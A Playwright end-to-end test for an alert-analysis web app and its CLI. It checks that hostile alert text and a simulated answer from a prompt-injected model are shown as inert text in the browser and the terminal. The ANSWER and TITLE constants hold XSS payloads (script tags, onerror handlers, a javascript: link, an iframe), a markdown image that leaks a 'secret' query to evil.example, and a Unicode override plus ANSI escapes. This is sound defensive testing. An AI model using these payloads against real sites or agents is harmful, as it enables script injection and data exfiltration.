import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import pg from 'pg';
import { z } from 'zod';
import { type DemoUnderTest, expect, test } from './fixtures/demo.ts';
import { root } from './fixtures/processes.ts';

/** What a person sees and what their browser and terminal do when alerts and answers are written by an attacker. */

const ANSWER = [
  'The cause is known. <script>document.title = "owned"</script> <b>bold</b>',
  '',
  '## Root cause',
  '<img src="https://evil.example/html.png" onerror="document.title = \'owned\'">',
  '',
  '![picture](https://evil.example/leak.png?q=secret) and [a link](https://evil.example/click)',
  'https://evil.example/bare and [script](javascript:document.title="owned") and [mail](mailto:a@evil.example)',
  '',
  '<iframe src="https://evil.example/frame"></iframe>',
  '',
  '## Evidence',
  '- Nothing at all [tool: call_that_never_was]',
].join('\n');
const TITLE = 'Down \u202egpj.exe \u001b[31mred\u001b[0m <img src=x onerror=alert(1)>';

test('foreign text is shown and obeyed nowhere: in the browser and on a terminal', async ({
  signedIn: page,
  demo,
}) => {
  const trouble = watchForTrouble(page, demo.url);
  const sessionId = await deliverHostileAlert(demo);
  await page.goto(`/sessions/${sessionId}`);
  const answer = page.getByRole('article', { name: 'Final analysis' });
  await expect(answer).toContainText('The cause is known.', { timeout: 60_000 });
  await expect(answer).toContainText('<script>');
  await expect(answer).toContainText('<iframe src="https://evil.example/frame">');
  await expect(answer).toContainText('[image: picture] (https://evil.example/leak.png?q=secret)');
  await expect(answer).toContainText('a link (https://evil.example/click)');
  await expect(answer).toContainText('[tool: call_that_never_was]');
  await expect(answer.locator('a, img, iframe, script, b')).toHaveCount(0);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('[U+202E]gpj.exe ␛[31mred');
  await page.goto(`/p/default/sessions/${sessionId}?item=alert`);
  await expect(page.getByRole('heading', { name: 'Labels' })).toBeVisible();
  await page.goto('/p/default/sessions');
  await expect(page.getByText('[U+202E]gpj.exe ␛[31mred').first()).toBeVisible();
  expect(await page.locator('a[href*="evil.example"], img[src*="evil.example"]').count()).toBe(0);
  expect(trouble).toEqual([]);

  const shown = showInTerminal(demo, sessionId);
  expect(shown).toContain('[U+202E]gpj.exe ␛[31mred');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there.
  expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
});

/** Requests to anywhere else, dialogs, and titles that a script has set. */
function watchForTrouble(page: Page, url: string): string[] {
  const trouble: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith('http') && origin !== new URL(url).origin)
      trouble.push(`request ${request.url()}`);
  });
  page.on('dialog', (dialog) => {
    trouble.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', async (frame) => {
    if ((await frame.title().catch(() => '')) === 'owned') trouble.push('a script ran');
  });
  return trouble;
}

/** A real session for a hostile alert; its answer is then replaced by one that a model under an attacker's spell would write. */
async function deliverHostileAlert(demo: DemoUnderTest): Promise<string> {
  const response = await fetch(`${demo.url}/api/v1/alerts`, {
    method: 'POST',
    headers: { authorization: `Bearer ${demo.apiKey}`, 'content-type': 'application/json' },
    body: JSON.stringify({ title: TITLE, data: `${TITLE}\n${ANSWER}`, labels: { pod: TITLE } }),
  });
  const { sessionId } = z.object({ sessionId: z.string() }).parse(await response.json());
  await expect
    .poll(
      async () => z.object({ status: z.string() }).parse(await demo.get(`/sessions/${sessionId}`)).status,
      {
        timeout: 90_000,
      },
    )
    .toBe('completed');
  const { url } = z
    .object({ url: z.string() })
    .parse(JSON.parse(readFileSync(join(demo.dataDir, 'postgres.json'), 'utf8')));
  const client = new pg.Client({ connectionString: url });
  await client.connect();
  await client.query('update session set final_analysis = $2, executive_summary = null where id = $1', [
    sessionId,
    ANSWER,
  ]);
  await client.end();
  return sessionId;
}

const showInTerminal = (demo: DemoUnderTest, sessionId: string): string =>
  execFileSync(process.execPath, ['bin/tars.mjs', 'session', 'show', sessionId], {
    cwd: root,
    encoding: 'utf8',
    env: { ...process.env, TARS_URL: demo.url, TARS_API_KEY: demo.apiKey },
  });
